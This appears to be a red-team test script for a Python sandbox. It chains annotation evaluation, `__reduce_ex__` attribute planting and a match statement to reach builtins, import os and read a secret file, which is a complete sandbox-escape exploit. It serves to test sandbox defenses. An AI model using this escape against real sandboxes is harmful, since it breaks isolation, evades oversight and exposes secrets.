# family: red team, round 9 (annotation_attribute_base_subscript)
# ANNOTATION_BASE only judges subscripts whose base is a Name; an attribute path (holder.keeper[type]) is
# not judged, and annotations run: the object's __getitem__ receives `type` itself.
import copy
import abc
from types import SimpleNamespace


class Keeper:
    def __init__(self):
        self.kept = []

    def __getitem__(self, key):
        self.kept.append(key)
        return int


holder = SimpleNamespace(keeper=Keeper())


def metaclass():
    def probe(value: holder.keeper[type]) -> None:
        return None

    return holder.keeper.kept[0]


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
